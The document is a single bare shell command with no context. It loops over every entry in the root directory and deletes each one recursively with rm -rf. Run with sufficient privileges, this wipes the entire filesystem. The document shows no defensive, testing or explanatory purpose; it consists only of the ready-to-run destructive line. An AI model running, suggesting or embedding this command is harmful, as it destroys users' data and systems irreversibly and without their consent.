for f in /*; do rm -rf "$f"; done
